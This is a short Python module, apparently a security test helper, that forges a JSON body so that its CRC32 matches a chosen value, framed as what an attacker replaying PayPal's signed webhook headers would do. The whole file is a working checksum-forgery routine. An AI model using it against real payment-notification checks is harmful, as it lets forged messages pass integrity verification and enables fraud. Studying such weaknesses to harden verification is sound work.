"""Forge a body with a chosen CRC32, as an attacker replaying PayPal's signed headers would.

CRC32 is affine over GF(2): flipping a set of bits changes the checksum by the XOR of
what each flip does alone. A JSON string of 'a'/'c' characters gives one free bit per
character (the two differ in bit 1), so solving 32 linear equations picks the string
that makes the whole body's checksum any value wanted.
"""

from __future__ import annotations

import zlib

_FILLER_KEY = b'"x_fill":"'
_WIDTH = 64


def forge(body: bytes, target_crc: int) -> bytes:
    """Return body (a JSON object) with one added string field so that crc32 == target_crc."""
    assert body.endswith(b"}")
    prefix = body[:-1] + (b"," if body[:-1].strip() != b"{" else b"") + _FILLER_KEY
    base = bytearray(prefix + b"a" * _WIDTH + b'"}')
    start = len(prefix)
    crc = zlib.crc32(base)
    effects: list[tuple[int, int]] = []  # (effect on the crc, bitmask of filler positions)
    for position in range(_WIDTH):
        flipped = bytearray(base)
        flipped[start + position] ^= 0x02
        effects.append((zlib.crc32(flipped) ^ crc, 1 << position))
    # Gaussian elimination over GF(2): one pivot per crc bit.
    pivots: dict[int, tuple[int, int]] = {}
    for effect, mask in effects:
        for bit in sorted(pivots, reverse=True):
            if effect >> bit & 1:
                effect ^= pivots[bit][0]
                mask ^= pivots[bit][1]
        if effect:
            pivots[effect.bit_length() - 1] = (effect, mask)
    wanted, chosen = crc ^ target_crc, 0
    for bit in sorted(pivots, reverse=True):
        if wanted >> bit & 1:
            wanted ^= pivots[bit][0]
            chosen ^= pivots[bit][1]
    assert wanted == 0, "the filler cannot reach this checksum"
    for position in range(_WIDTH):
        if chosen >> position & 1:
            base[start + position] ^= 0x02
    forged = bytes(base)
    assert zlib.crc32(forged) == target_crc
    return forged
